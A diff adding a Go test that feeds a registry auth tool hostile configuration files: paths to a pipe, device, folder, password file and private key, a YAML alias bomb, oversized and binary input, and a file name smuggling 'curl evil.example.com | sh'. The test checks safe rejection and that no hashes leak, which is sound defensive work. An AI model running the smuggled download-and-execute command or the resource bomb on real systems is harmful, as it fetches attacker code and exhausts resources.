@@ -7,8 +7,10 @@ import (
 	"net"
 	"net/http"
 	"net/url"
+	"path/filepath"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
 	"time"
 	"unicode"
@@ -270,6 +272,60 @@ func TestRegistryDoesNotChooseWhatIsSigned(t *testing.T) {
 	}
 	if len(seen) < 10 {
 		t.Errorf("only %d tokens", len(seen))
+	}
+}
+
+// A configuration may be somebody else's too.
+func TestHostileConfiguration(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, "", harness.Options{})
+	pipe := filepath.Join(t.TempDir(), "pipe")
+	if err := syscall.Mkfifo(pipe, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	stanza := func(bundle string) string {
+		return fmt.Sprintf("version: 0.1\nauth:\n  token: {realm: %q, service: registry.test, issuer: authserver, rootcertbundle: %q}\n", w.auth.URL+"/token", bundle)
+	}
+	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
+	for c := 'b'; c < 'm'; c++ {
+		bomb += fmt.Sprintf("%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n", c, c, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1)
+	}
+	for name, c := range map[string]struct {
+		text string
+		exit int
+		says string
+	}{
+		"a pipe":                   {stanza(pipe), 0, "is no file"},
+		"a device":                 {stanza("/dev/zero"), 0, "is no file"},
+		"a folder":                 {stanza("/etc"), 0, "is no file"},
+		"somebody's secret":        {stanza(filepath.Join(w.auth.Dir, "users.htpasswd")), 1, "holds no certificate"},
+		"our private key":          {stanza(filepath.Join(w.auth.Dir, "data/root.key")), 1, "holds a private key"},
+		"a bomb":                   {bomb + stanza(w.auth.Root), 0, "accepts"},
+		"an anchor within itself":  {"auth: &a\n  token: *a\n", 1, "names no realm"},
+		"a command in a file name": {stanza("/tmp/x; curl evil.example.com | sh"), 0, "cannot be read here"},
+		"large":                    {strings.Repeat("# x\n", 1<<19), 1, "larger than"},
+		"binary":                   {"\x00\x01\x02", 1, "neither YAML nor JSON"},
+		"escapes":                  {stanza("/none") + "      x: \"\x1b[31m\"\n", 1, ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := &world{T: t, auth: w.auth}
+			file := filepath.Join(t.TempDir(), "registry.yml")
+			w.write(file, c.text)
+			began := time.Now()
+			o := w.run("--registry-config", file)
+			if took := time.Since(began); took > 20*time.Second {
+				t.Errorf("it took %s", took)
+			}
+			if o.exit != c.exit || !strings.Contains(o.stdout+o.stderr, c.says) {
+				t.Errorf("exit status %d\n%.2000s%.2000s", o.exit, o.stdout, o.stderr)
+			}
+			isText(t, o.stdout+o.stderr)
+			for _, line := range strings.Split(string(harness.ReadFile(t, filepath.Join(w.auth.Dir, "users.htpasswd"))), "\n") {
+				if _, hash, ok := strings.Cut(line, ":"); ok && strings.Contains(o.stdout+o.stderr, hash) {
+					t.Error("it prints a hash")
+				}
+			}
+		})
 	}
 }
 
